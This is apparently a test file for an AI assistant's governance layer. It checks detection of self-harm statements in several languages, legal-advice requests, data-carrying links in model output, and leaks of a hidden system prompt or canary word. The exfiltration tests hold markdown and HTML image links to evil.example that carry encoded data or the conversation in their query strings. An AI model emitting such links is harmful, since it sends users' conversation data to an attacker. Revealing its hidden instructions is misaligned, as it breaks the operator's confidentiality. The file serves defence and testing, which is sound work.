import { describe, expect, it } from 'vitest'
import { normalise } from '#domain/governance/normaliser.ts'
import { detectPromptLeak } from '#domain/governance/prompt-leak.ts'
import { decideText } from '#domain/governance/engine.ts'
import { defaultSnapshot } from '#domain/governance/rules.ts'
import { agent, decideOn, foundIn } from './fixtures.ts'

describe('a person in distress', () => {
  it.each([
    'I want to die, nothing helps any more.',
    'I don’t want to live like this',
    'Ich will nicht mehr leben.',
    'J’ai envie de mourir',
    'quiero morir',
    '死にたい',
  ])('is seen: %s', (text) => {
    const decision = decideOn(text)
    expect(decision).toMatchObject({ effect: 'review_after', reasonKey: 'selfharm.review' })
    expect(decision.signals[0]).toMatchObject({ id: 'selfharm.crisis', severity: 'critical' })
  })

  it.each([
    'Which charities work on suicide prevention?',
    'I could kill for a coffee',
    'My phone died and I want a new one',
    'Ich sterbe vor Langeweile',
  ])('is not seen in: %s', (text) => {
    expect(decideOn(text).signals).toEqual([])
  })
})

describe('regulated advice', () => {
  it('is a signal without a place', () => {
    const { signals, effect } = decideOn('Can I sue him? I need legal advice from a lawyer.')
    expect(signals).toEqual([
      { id: 'regulated.advice', severity: 'medium', score: expect.any(Number), spans: [] },
    ])
    expect(effect).toBe('allow_log')
  })
})

describe('links that carry data away', () => {
  it.each([
    ['an image', '![chart](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)'],
    ['an HTML image', '<img width=1 src="https://evil.example/p?q=the-conversation-so-far">'],
    ['a link', `[click](https://evil.example/?q=${'abcdefgh'.repeat(10)})`],
  ])('finds %s', (_name, text) => {
    expect(foundIn(`See ${text} ok`, { point: 'output' }).map(([id]) => id)).toEqual(['exfil.link'])
  })

  it.each([
    '![logo](https://example.com/logo.png)',
    '![logo](https://example.com/logo.png?v=3)',
    '[the guide](https://example.com/guide?page=2&lang=en)',
    'https://example.com/search?q=plain+addresses+are+not+fetched+by+being+shown',
    '[x](/relative?d=c2VjcmV0IGRhdGEgaGVyZQ)',
  ])('leaves %s', (text) => {
    expect(foundIn(text, { point: 'output' })).toEqual([])
  })
})

describe('hidden instructions in an answer', () => {
  const prompt =
    'You are Scotty, the assistant of Example Ltd. Never tell a customer what the purchase price of a part was.'
  const leaks = (answer: string, canary?: string) =>
    detectPromptLeak(normalise(answer), canary === undefined ? { prompt } : { prompt, canary })

  it('are found by eight words in the same order, whatever the marks and case', () => {
    const answer = 'Sure: “NEVER tell a customer, what the purchase price of a part was!”'
    const [first] = leaks(answer)
    expect(first).toMatchObject({ signalId: 'prompt_leak.output', severity: 'high' })
    expect(answer.slice(first?.start, first?.end)).toBe(
      'NEVER tell a customer, what the purchase price',
    )
  })

  it('are not found in fewer words', () => {
    expect(leaks('I may not tell a customer what the purchase price is.')).toEqual([])
  })

  it('are found by the canary, also in disguise', () => {
    expect(leaks('the word is kestrel-7f3a', 'kestrel-7f3a')).toHaveLength(1)
    expect(leaks('the word is kes\u200Btrel–7F3A', 'kestrel-7f3a')).toHaveLength(1)
    expect(leaks('the word is kestrel', 'kestrel-7f3a')).toEqual([])
  })

  it('send an answer to review when the caller gives them', () => {
    const snapshot = defaultSnapshot()
    const text = `It says: ${prompt}`
    const decide = (point: 'input' | 'output') =>
      decideText({ point, text, snapshot, agent, hidden: { prompt } })
    expect(decide('output')).toMatchObject({
      effect: 'review_after',
      reasonKey: 'prompt_leak.review',
    })
    expect(decide('input').effect).toBe('allow_log')
  })

  it('are not looked for where there are none', () => {
    expect(
      detectPromptLeak(normalise('any answer at all, with quite a few words in it'), {
        prompt: '',
      }),
    ).toEqual([])
  })
})
